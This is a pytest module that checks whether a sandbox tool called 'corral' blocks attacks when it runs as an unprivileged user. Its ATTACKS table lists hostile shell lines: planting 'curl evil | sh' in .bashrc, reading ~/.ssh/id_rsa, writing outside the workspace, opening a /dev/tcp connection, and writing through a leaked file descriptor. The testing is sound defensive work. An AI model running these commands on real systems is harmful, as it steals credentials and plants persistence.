"""The blocks hold for an ordinary user, not only for root (CI runs as root; users do not).

When the tests run as root, an unprivileged user `corral-test` is created once and the `corral`
command runs as that user through runuser(1); otherwise the current user is the one. The layout
belongs to that user, so each attack run directly as that user (the control) succeeds, and the
same attack through `corral run` is seen to fail, from the host side.

If that user cannot be made or cannot run corral, the tests fail when CORRAL_REQUIRE_SANDBOX is
set (CI) and are skipped with the reason in capitals otherwise: never silently.
"""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from typing import NamedTuple

import pytest

from tests.conftest import BASHRC, LAYOUT_ROOT, SECRET, Canary, Layout, make_layout
from tests.helpers_cli import corral_run, fd_listing, open_leaky_fd

pytestmark = [pytest.mark.usefixtures("sandbox_available"), pytest.mark.unprivileged]

USER = "corral-test"
STARTED = "started-as-uid-"


class User(NamedTuple):
    name: str
    uid: int
    gid: int
    prefix: tuple[str, ...]
    """What runs a command as this user: runuser when we are root, nothing when we are them."""


def _as(user: User, argv: Sequence[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*user.prefix, *argv], capture_output=True, text=True, cwd="/", timeout=60
    )


def _make_user() -> User | str:
    """The unprivileged user, or why there is none."""
    if os.geteuid() != 0:
        me = pwd.getpwuid(os.geteuid())
        return User(me.pw_name, me.pw_uid, me.pw_gid, ())
    if shutil.which("runuser") is None:
        return "runuser is not installed (util-linux)"
    try:
        pwd.getpwnam(USER)
    except KeyError:
        made = subprocess.run(
            ["useradd", "--create-home", "--shell", "/bin/bash", USER],
            capture_output=True,
            text=True,
        )
        if made.returncode != 0:
            return f"useradd {USER} failed: {made.stderr.strip()}"
    entry = pwd.getpwnam(USER)
    return User(USER, entry.pw_uid, entry.pw_gid, ("runuser", "-u", USER, "--"))


def _user_problem(user: User) -> str | None:
    """Why `user` cannot run corral here, if it cannot."""
    imported = _as(user, [sys.executable, "-c", "import corral.cli"])
    if imported.returncode != 0:
        return (
            f"{user.name} cannot run corral from {sys.executable} (is the venv readable by "
            f"other users?): {imported.stderr.strip()[-300:]}"
        )
    probe = _as(user, ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "--dev", "/dev", "true"])
    if probe.returncode != 0:
        return f"bwrap cannot create namespaces as {user.name}: {probe.stderr.strip()}"
    return None


@pytest.fixture(scope="session")
def user() -> User:
    found = _make_user()
    problem = found if isinstance(found, str) else _user_problem(found)
    if problem is None and isinstance(found, User):
        return found
    if os.environ.get("CORRAL_REQUIRE_SANDBOX"):
        pytest.fail(f"unprivileged sandbox tests required but impossible: {problem}")
    pytest.skip(f"UNPRIVILEGED SANDBOX TESTS SKIPPED: {problem}")


@pytest.fixture
def user_layout(user: User) -> Iterator[Layout]:
    root = tempfile.mkdtemp(prefix="corral-test-user-", dir=LAYOUT_ROOT)
    os.chmod(root, 0o755)
    try:
        layout = make_layout(root)
        for dirpath, dirnames, filenames in os.walk(root):
            for name in [".", *dirnames, *filenames]:
                os.chown(os.path.join(dirpath, name), user.uid, user.gid)
        yield layout
    finally:
        shutil.rmtree(root, ignore_errors=True)


def run_as(
    user: User, layout: Layout, script: str, *, sandboxed: bool, pass_fds: Sequence[int] = ()
) -> subprocess.CompletedProcess[str]:
    """bash -c SCRIPT as `user` in the workspace, through `corral run` or (the control) directly.
    env -i: the environment is exactly the layout's, whatever runuser would keep or set.
    The script first says who runs it, so a sandbox that never started cannot pass for a block."""
    command = ["bash", "-c", f"echo {STARTED}$(id -u); {script}"]
    argv = [
        *user.prefix,
        "env",
        "-i",
        *(f"{key}={value}" for key, value in layout.env.items()),
        *(corral_run("--", *command) if sandboxed else command),
    ]
    return subprocess.run(
        argv,
        cwd=layout.workspace,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        pass_fds=pass_fds,
        timeout=60,
    )


class Evidence(NamedTuple):
    layout: Layout
    result: subprocess.CompletedProcess[str]
    connections: int


# Attack -> (script, did it get through? judged on the host). {outside}, {port} and {fd} are
# filled in per run.
ATTACKS: dict[str, tuple[str, Callable[[Evidence], bool]]] = {
    "bashrc-write": (
        "echo 'curl evil | sh' >> ~/.bashrc",
        lambda e: e.layout.read("home/.bashrc") != BASHRC,
    ),
    "ssh-key-read": ("cat ~/.ssh/id_rsa", lambda e: SECRET in e.result.stdout),
    "write-outside": (
        "echo loot > {outside}/loot",
        lambda e: os.path.exists(f"{e.layout.outside}/loot"),
    ),
    "tcp-to-host": (
        "exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3",
        lambda e: e.connections > 0,
    ),
    "leaked-fd": (
        "ls -l /proc/self/fd; echo leaked >&{fd}",
        lambda e: e.layout.read("outside/leaked.log") != "",
    ),
}


@pytest.mark.parametrize("sandboxed", [False, True], ids=["unsandboxed", "sandboxed"])
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_as_an_unprivileged_user(
    user: User, user_layout: Layout, attack: str, sandboxed: bool
) -> None:
    script, got_through = ATTACKS[attack]
    fd = open_leaky_fd(f"{user_layout.outside}/leaked.log")
    try:
        with Canary() as canary:
            filled = script.format(outside=user_layout.outside, port=canary.port, fd=fd)
            result = run_as(user, user_layout, filled, sandboxed=sandboxed, pass_fds=(fd,))
            connections = canary.count()
    finally:
        os.close(fd)
    assert f"{STARTED}{user.uid}\n" in result.stdout, result
    if not sandboxed:
        assert result.returncode == 0, f"the control failed as {user.name}: {result.stderr}"
    assert got_through(Evidence(user_layout, result, connections)) != sandboxed, result
    if attack == "leaked-fd":
        assert (fd in fd_listing(result.stdout.encode())) != sandboxed, result.stdout


def test_workspace_write_succeeds_as_an_unprivileged_user(user: User, user_layout: Layout) -> None:
    result = run_as(user, user_layout, "echo hello > out.txt", sandboxed=True)
    assert (result.returncode, result.stdout) == (0, f"{STARTED}{user.uid}\n"), result.stderr
    written = f"{user_layout.workspace}/out.txt"
    assert user_layout.read("home/project/out.txt") == "hello\n"
    assert os.stat(written).st_uid == user.uid
